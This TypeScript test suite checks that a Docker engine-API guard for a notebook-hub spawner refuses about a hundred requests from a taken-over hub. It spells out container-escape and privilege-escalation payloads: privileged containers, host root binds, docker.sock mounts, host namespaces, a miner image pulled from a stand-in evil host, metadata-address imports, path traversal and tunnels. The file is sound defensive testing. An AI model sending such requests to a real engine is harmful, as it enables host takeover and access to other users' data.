import assert from 'node:assert/strict'
import { request as httpRequest } from 'node:http'
import { connect } from 'node:net'
import { text } from 'node:stream/consumers'
import { after, before, suite, test } from 'node:test'
import { userNetworkName } from '../../src/spawners/docker/names.ts'
import { parseHandle } from '../../src/spawners/docker/handle.ts'
import { newServer, recordingContext } from '../conformance/spawner.ts'
import type { Container } from '../support/docker/containers.ts'
import { needsEngine } from '../support/docker-engine.ts'
import { guardBefore, type RunningGuard } from '../support/docker-guard.ts'
import { buildFromLines, lightImage } from '../support/docker-images.ts'
import { dockerWorld } from '../support/docker-world.ts'
import { needs } from '../support/machine.ts'
import { startSpec } from '../support/process-world.ts'

const docker = { ...needs('docker', 'debootstrap'), ...(await needsEngine()) }

type Answer = { readonly status: number; readonly body: string }
type Json = Readonly<Record<string, unknown>>

suite('what a hub that was taken over asks of the engine', docker, () => {
  let world: Awaited<ReturnType<typeof dockerWorld>>
  let guard: RunningGuard
  let foreign: Container
  let own: Container
  let foreignImage = ''
  const foreignVolume = `foreign-home-bob-${process.pid}`

  const ask = (method: string, path: string, body?: string | Buffer, headers: Record<string, string> = {}): Promise<Answer> =>
    new Promise((resolve, reject) => {
      const length =
        body === undefined || headers['Transfer-Encoding'] !== undefined ? {} : { 'Content-Length': `${Buffer.byteLength(body)}` }
      const request = httpRequest(
        { socketPath: guard.socketPath, method, path, agent: false, headers: { ...length, ...headers } },
        (response) => {
          text(response).then((answer) => resolve({ status: response.statusCode ?? 0, body: answer }), reject)
        },
      )
      request.on('error', reject).end(body)
    })
  const send = (method: string, path: string, body: unknown): Promise<Answer> =>
    ask(method, path, JSON.stringify(body), { 'Content-Type': 'application/json' })

  /** A request that passes: the attacks differ from it in one thing. */
  const server = (changes: Json = {}, host: Json = {}): Json => ({
    Image: world.image,
    Env: ['A=b'],
    Labels: {
      'orrery.server': '1',
      'orrery.key': 'ann',
      'orrery.generation': '1',
      'orrery.user': 'ann',
      'orrery.home': 'ann',
      'orrery.servername': '',
      'orrery.spec': 'x',
    },
    HostConfig: {
      NetworkMode: world.networkName,
      Mounts: [{ Type: 'volume', Source: `${world.prefix}-home-ann`, Target: '/home/jovyan' }],
      Memory: 256 * 2 ** 20,
      PidsLimit: 100,
      SecurityOpt: ['no-new-privileges'],
      CapDrop: ['ALL'],
      ...host,
    },
    ...changes,
  })
  const create = (body: Json, name = `${world.prefix}-ann`): Promise<Answer> => send('POST', `/containers/create?name=${name}`, body)
  const withHost = (host: Json) => (): Promise<Answer> => create(server({}, host))
  const withMount = (mount: Json) => withHost({ Mounts: [{ Type: 'volume', Target: '/home/jovyan', ...mount }] })
  const home = () => ({ Source: `${world.prefix}-home-ann` })

  before(async () => {
    world = await dockerWorld(lightImage)
    const options = world.options({
      memLimit: 512 * 2 ** 20,
      volumes: { '/srv/{username}': '/data' },
      readOnlyVolumes: { '/srv/course': '/course' },
    })
    guard = await guardBefore(options, [`${world.prefix}-the-hub`])
    foreign = await world.engine.run(world.image, { name: `postgres-${world.prefix}`, cmd: ['sleep', '1000'], create: { Entrypoint: [] } })
    await world.engine.api.call('POST', '/volumes/create', { body: { json: { Name: foreignVolume } } })
    foreignImage = `foreign-${world.prefix}:1`
    await buildFromLines(world.engine.api, foreignImage, [`FROM ${world.image}`, 'LABEL foreign=1'])
    const spawner = world.spawner({ ...options, volumes: {}, readOnlyVolumes: {}, engineUrl: guard.url })
    const ref = newServer()
    const { handle } = await spawner.start(spawner.reserve(ref, 1), startSpec(ref, 1), recordingContext().context)
    own = await world.engine.find(parseHandle(handle).name)
  })
  after(async () => {
    await foreign.remove()
    await guard.close()
    await world.engine.api.call('DELETE', `/volumes/${foreignVolume}`)
    await world.engine.api.call('DELETE', `/images/${foreignImage}`, { query: { force: 'true' } })
    await world.close()
  })

  test('the request that the attacks are made from passes, and carries the mark of the installation', async () => {
    const made = await create(server())
    assert.equal(made.status, 201, made.body)
    const { Config } = await (await world.engine.find(`${world.prefix}-ann`)).inspect()
    assert.equal(Config.Labels?.['orrery.guard'], world.prefix)
    assert.equal((await ask('DELETE', `/containers/${world.prefix}-ann?force=true&v=true`)).status, 204)
    assert.deepEqual(guard.refusals, [])
  })

  const exec = (id: string, more: Json = {}) => send('POST', `/containers/${id}/exec`, { Cmd: ['id'], AttachStdout: true, ...more })
  const rawHead = (lines: readonly string[]): Promise<Answer> =>
    new Promise((resolve, reject) => {
      const socket = connect(guard.socketPath, () => socket.write(`${lines.join('\r\n')}\r\n\r\n`))
      text(socket).then(
        (answer) => resolve({ status: Number(answer.split(' ')[1]), body: answer.slice(answer.indexOf('\r\n\r\n') + 4) }),
        reject,
      )
    })

  const attacks: Readonly<Record<string, () => Promise<Answer>>> = {
    'a privileged container': withHost({ Privileged: true }),
    'a privileged container, in letters that the engine reads alike': withHost({ privileged: true }),
    'a bind of the root of the machine': withHost({ Binds: ['/:/host'] }),
    'a mount of the engine socket': withMount({ Type: 'bind', Source: '/var/run/docker.sock' }),
    'a folder that climbs out of the configured one': withHost({ Binds: ['/srv/../etc:/data'] }),
    'the folder of another user': withHost({ Binds: ['/srv/bob:/data'] }),
    'writing into a folder that is for reading': withHost({ Binds: ['/srv/course:/course:rw'] }),
    'a bind with options of its own': withHost({ Binds: ['/srv/ann:/data:rw,rshared'] }),
    'the volume of another prefix': withMount({ Source: foreignVolume }),
    'the volume of another user': () =>
      create(server({}, { Mounts: [{ Type: 'volume', Source: `${world.prefix}-home-bob`, Target: '/home/jovyan' }] })),
    'the volume of another user as a bind': () => create(server({}, { Binds: [`${world.prefix}-home-bob:/home/jovyan`] })),
    'a volume that is a folder of the machine': () =>
      create(
        server(
          {},
          {
            Mounts: [
              {
                Type: 'volume',
                ...home(),
                Target: '/x',
                VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } } },
              },
            ],
          },
        ),
      ),
    'a nameless volume that is a folder of the machine': withMount({ VolumeOptions: { DriverConfig: { Options: { device: '/' } } } }),
    'making a volume with a driver': () =>
      send('POST', '/volumes/create', { Name: `${world.prefix}-home-ann`, DriverOpts: { device: '/', o: 'bind', type: 'none' } }),
    'removing a foreign volume': () => ask('DELETE', `/volumes/${foreignVolume}`),
    'the network of the machine': withHost({ NetworkMode: 'host' }),
    'the network of another container': () => create(server({}, { NetworkMode: `container:${foreign.id}` })),
    'the network of another user': () => create(server({}, { NetworkMode: userNetworkName(world.networkName, 'bob') })),
    'the processes of the machine': withHost({ PidMode: 'host' }),
    'the shared memory of the machine': withHost({ IpcMode: 'host' }),
    'the user numbers of the machine': withHost({ UsernsMode: 'host' }),
    'a capability': withHost({ CapAdd: ['SYS_ADMIN'] }),
    'keeping the capabilities that are to be dropped': withHost({ CapDrop: ['NET_RAW'] }),
    'a device': withHost({ Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] }),
    'a device by its numbers': withHost({ DeviceCgroupRules: ['b 8:* rwm'] }),
    'all GPUs': withHost({ DeviceRequests: [{ Driver: '', Count: -1, Capabilities: [['gpu']], Options: {} }] }),
    'no seccomp': withHost({ SecurityOpt: ['no-new-privileges', 'seccomp=unconfined'] }),
    'no apparmor': withHost({ SecurityOpt: ['no-new-privileges', 'apparmor=unconfined'] }),
    'a control group of its choice': withHost({ CgroupParent: '/system.slice' }),
    'a runtime of its choice': withHost({ Runtime: 'other' }),
    'a kernel setting': withHost({ Sysctls: { 'net.ipv4.ip_forward': '1' } }),
    'unmasked paths': withHost({ MaskedPaths: ['/nothing'] }),
    'volumes from another container': () => create(server({}, { VolumesFrom: [foreign.id] })),
    'a link to another container': () => create(server({}, { Links: [`${foreign.name}:db`] })),
    'a log that goes elsewhere': withHost({ LogConfig: { Type: 'syslog', Config: { 'syslog-address': 'tcp://10.0.0.1:514' } } }),
    'a container that always comes back': withHost({ RestartPolicy: { Name: 'always' } }),
    'a port of the machine': withHost({ PortBindings: { '8888/tcp': [{ HostIp: '0.0.0.0', HostPort: '80' }] } }),
    'more memory than anybody gets': withHost({ Memory: 2 ** 40 }),
    'no limit of memory': withHost({ Memory: 0 }),
    'beginning as root': () => create(server({ User: '0' })),
    'an image outside the list': () => create(server({ Image: foreignImage })),
    'fetching an image outside the list': () => ask('POST', '/images/create?fromImage=evil.example.org%2Fminer&tag=latest'),
    'loading an image from outside': () => ask('POST', '/images/load', Buffer.alloc(1024)),
    'importing an image under the name of the marker': () =>
      ask('POST', '/images/create?fromSrc=-&repo=orrery-marker&tag=1', Buffer.from('files')),
    'importing an image from an address': () =>
      ask('POST', '/images/create?fromSrc=http%3A%2F%2F169.254.169.254%2F&repo=orrery-marker&tag=1'),
    'building an image': () => ask('POST', '/build?t=x', Buffer.alloc(1024)),
    'committing a container to an image': () => send('POST', `/commit?container=${own.id}&repo=${world.prefix}`, {}),
    'giving an image another name': () => ask('POST', `/images/${foreignImage}/tag?repo=${world.prefix}&tag=1`),
    'a container without labels': () => create(server({ Labels: {} })),
    'a mark of its choice': () => create(server({ Labels: { ...Object(server()['Labels']), 'orrery.guard': 'other' } })),
    'a label that other programs obey': () => create(server({ Labels: { ...Object(server()['Labels']), 'traefik.enable': 'true' } })),
    'the name of another program': () => create(server(), 'postgres'),
    'another platform': () => send('POST', `/containers/create?name=${world.prefix}-ann&platform=windows`, server()),
    'networks beside the host part': () => create(server({ NetworkingConfig: { EndpointsConfig: { host: {} } } })),
    'a name twice in one object': () =>
      ask(
        'POST',
        `/containers/create?name=${world.prefix}-ann`,
        JSON.stringify(server()).replace('"HostConfig":', '"HostConfig":{"Privileged":true},"HostConfig":'),
      ),
    'no JSON': () => ask('POST', `/containers/create?name=${world.prefix}-ann`, '{"Image":'),
    'a body in pieces': () =>
      ask('POST', `/containers/create?name=${world.prefix}-ann`, JSON.stringify(server()), { 'Transfer-Encoding': 'chunked' }),
    'a body of two megabytes': () =>
      rawHead([`POST /containers/create?name=${world.prefix}-ann HTTP/1.1`, 'Host: x', 'Content-Length: 2000000']),
    'a program in a foreign container': () => exec(foreign.id),
    'a program in a foreign container, by its name': () => exec(foreign.name),
    'a privileged program in an own container': () => exec(own.id, { Privileged: true }),
    'a program as root in an own container': () => exec(own.id, { User: '0' }),
    'what a foreign container is': () => ask('GET', `/containers/${foreign.id}/json`),
    'the log of a foreign container': () => ask('GET', `/containers/${foreign.id}/logs?stdout=true`),
    'the files of a foreign container': () => ask('GET', `/containers/${foreign.id}/archive?path=/etc`),
    'the programs of a foreign container': () => ask('GET', `/containers/${foreign.id}/top`),
    'the use of a foreign container': () => ask('GET', `/containers/${foreign.id}/stats?stream=false`),
    'attaching to a foreign container': () => ask('POST', `/containers/${foreign.id}/attach?stream=1&stdin=1`),
    'attaching to an own container': () => ask('POST', `/containers/${own.id}/attach?stream=1&stdin=1`),
    'stopping a foreign container': () => ask('POST', `/containers/${foreign.id}/stop`),
    'killing a foreign container': () => ask('POST', `/containers/${foreign.id}/kill`),
    'removing a foreign container': () => ask('DELETE', `/containers/${foreign.id}?force=true&v=true`),
    'changing the limits of an own container': () => send('POST', `/containers/${own.id}/update`, { Memory: 0 }),
    'putting a program into an own container': () => ask('PUT', `/containers/${own.id}/archive?path=/`, Buffer.alloc(2048, 'x')),
    'giving an own container the name of another': () => ask('POST', `/containers/${own.id}/rename?name=postgres`),
    'joining a foreign container to a network': () => send('POST', `/networks/${world.networkName}/connect`, { Container: foreign.id }),
    'joining an own container to a foreign network': () => send('POST', '/networks/bridge/connect', { Container: own.id }),
    'joining with an address of its choice': () =>
      send('POST', `/networks/${world.networkName}/connect`, {
        Container: own.id,
        EndpointConfig: { IPAMConfig: { IPv4Address: '10.0.0.1' } },
      }),
    'a network on a card of the machine': () =>
      send('POST', '/networks/create', {
        Name: `${world.networkName}-x`,
        Driver: 'macvlan',
        Labels: { 'orrery.network': `${world.networkName}-x` },
        Options: { parent: 'eth0' },
      }),
    'a network with the addresses of others': () =>
      send('POST', '/networks/create', {
        Name: `${world.networkName}-x`,
        Driver: 'bridge',
        Labels: { 'orrery.network': `${world.networkName}-x` },
        IPAM: { Driver: 'default', Config: [{ Subnet: '8.8.8.0/28' }] },
      }),
    'removing the bridge of the engine': () => ask('DELETE', '/networks/bridge'),
    'the settings of the engine': () => ask('GET', '/info?all=1'),
    'the list of all images': () => ask('GET', '/images/json'),
    'a swarm': () => send('POST', '/swarm/init', {}),
    'a service of a swarm': () => send('POST', '/services/create', {}),
    'the secrets of a swarm': () => ask('GET', '/secrets'),
    'a plugin': () => ask('POST', '/plugins/pull?remote=evil'),
    'removing what is not in use': () => ask('POST', '/containers/prune'),
    'the sign-in to a registry': () => send('POST', '/auth', {}),
    'a version before the path': () => send('POST', `/v1.41/containers/create?name=${world.prefix}-ann`, server()),
    'two slashes': () => send('POST', '//containers/create', server()),
    'a path that climbs': () => ask('GET', `/containers/${own.id}/../${foreign.id}/json`),
    'a path that climbs, in code': () => ask('GET', `/containers/${own.id}%2f..%2f${foreign.id}/json`),
    'a path that climbs, in code twice': () => ask('GET', `/containers/%252e%252e/json`),
    'a parameter twice': () => ask('GET', '/containers/json?filters=%7B%7D&filters=%7B%7D'),
    'filters in another form': () => ask('GET', `/containers/json?filters=${encodeURIComponent('{"label":{"orrery.guard":true}}')}`),
    'an address of another machine': () => rawHead(['GET http://10.0.0.1/info HTTP/1.1', 'Host: x']),
    'another protocol': () => rawHead([`POST /exec/${own.id}/start HTTP/1.1`, 'Host: x', 'Connection: Upgrade', 'Upgrade: tcp']),
    'a session of the builder': () => rawHead(['POST /session HTTP/1.1', 'Host: x', 'Connection: Upgrade', 'Upgrade: h2c']),
    'a tunnel': () => rawHead(['CONNECT 10.0.0.1:80 HTTP/1.1', 'Host: x']),
  }

  for (const [what, attack] of Object.entries(attacks)) {
    test(`${what}: refused with a sentence, and logged`, async () => {
      const known = guard.refusals.length
      const { status, body } = await attack()
      assert.equal(status, 403, body)
      assert.match(body, /"message":".+"/)
      assert.equal(guard.refusals.length, known + 1)
    })
  }

  test('none of it left anything, and what was there before is as it was', async () => {
    assert.deepEqual(await world.left('ann'), [])
    assert.ok((await foreign.inspect()).State.Running)
    assert.ok((await own.inspect()).State.Running)
    await world.engine.api.call('GET', `/volumes/${foreignVolume}`)
  })

  test('lists and events show what is its own, and nothing else', async () => {
    const { body } = await ask('GET', '/containers/json?all=true')
    assert.ok(body.includes(own.id))
    assert.ok(!body.includes(foreign.id))
    assert.ok(!(await ask('GET', '/volumes')).body.includes(foreignVolume))
    assert.ok(!(await ask('GET', '/networks')).body.includes('"bridge","Id"'))
    assert.ok(!(await ask('GET', '/info')).body.includes('RegistryConfig'))
  })
})
